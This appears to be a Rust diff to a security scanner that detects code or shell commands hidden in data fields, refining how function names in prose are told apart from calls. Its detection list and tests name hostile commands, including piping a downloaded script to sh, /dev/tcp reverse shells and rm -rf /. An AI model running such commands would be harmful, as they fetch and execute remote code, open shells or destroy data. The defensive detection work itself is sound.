@@ -161,43 +161,70 @@ pub(crate) fn code_like(text: &str) -> Code {
     Code::No
 }
 
+/// What only code and commands are written with.
+const PIECES: &[&str] = &[
+    "__import__(",
+    "os.system",
+    "os.popen",
+    "subprocess.",
+    "/bin/sh",
+    "/bin/bash",
+    "bash -c",
+    "bash -i",
+    "powershell",
+    "cmd.exe",
+    "| sh",
+    "|sh",
+    "| bash",
+    "|bash",
+    "curl http",
+    "wget http",
+    "/dev/tcp/",
+    "rm -rf /",
+    "python -c",
+    "python3 -c",
+    "__builtins__",
+    "__globals__",
+    "__subclasses__",
+    "exec(base64",
+    "eval(compile",
+];
+
 /// Text that is code or a command for certain.
 pub(crate) fn is_code(text: &str) -> bool {
-    const PIECES: &[&str] = &[
-        "__import__(",
-        "os.system",
-        "os.popen",
-        "subprocess.",
-        "/bin/sh",
-        "/bin/bash",
-        "bash -c",
-        "bash -i",
-        "powershell",
-        "cmd.exe",
-        "| sh",
-        "|sh",
-        "| bash",
-        "|bash",
-        "curl http",
-        "wget http",
-        "/dev/tcp/",
-        "rm -rf /",
-        "python -c",
-        "python3 -c",
-        "__builtins__",
-        "__globals__",
-        "__subclasses__",
-        "exec(base64",
-        "eval(compile",
-    ];
+    has_code(text, PIECES)
+}
+
+/// The same of notes, where the name of a function is a word of a sentence until it is called.
+fn is_code_in_notes(text: &str) -> bool {
+    const CALLED: &[&str] = &["os.system", "os.popen", "subprocess."];
     let lower = text.to_ascii_lowercase();
-    PIECES.iter().any(|piece| lower.contains(piece))
+    let names: Vec<&str> = PIECES
+        .iter()
+        .copied()
+        .filter(|piece| !CALLED.contains(piece))
+        .collect();
+    has_code(text, &names)
+        || CALLED.iter().any(|name| {
+            memchr::memmem::find_iter(lower.as_bytes(), name).any(|at| {
+                let rest = &lower.as_bytes()[at + name.len()..];
+                let more = rest
+                    .iter()
+                    .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_');
+                rest[more.count()..].trim_ascii_start().starts_with(b"(")
+            })
+        })
+}
+
+fn has_code(text: &str, pieces: &[&str]) -> bool {
+    let lower = text.to_ascii_lowercase();
+    pieces.iter().any(|piece| lower.contains(piece))
 }
 
 /// A value that should be data and is code.
 pub(crate) fn code_in_data(inspection: &mut Inspection, key: &str, value: &str) {
     let head = value.get(..value.len().min(1 << 16)).unwrap_or_default();
-    if is_code(head) {
+    if is_code_in_notes(head) {
         inspection.report(
             if is_payload(head) {
                 Verdict::Malicious
@@ -244,6 +271,10 @@ mod tests {
         assert!(is_payload("__import__('os').system('x')"));
         assert!(is_payload("curl http://x.example/a | sh"));
         assert!(!is_payload("trained with subprocess.run and os.system"));
+        assert!(is_code_in_notes("os.system ('x')") && is_code_in_notes("subprocess.run(a)"));
+        assert!(!is_code_in_notes(
+            "os.system is not called, nor is subprocess.run"
+        ));
         assert!(dangerous_word("popen") && dangerous_word("__import__"));
         assert!(!dangerous_word("kernel"));
     }
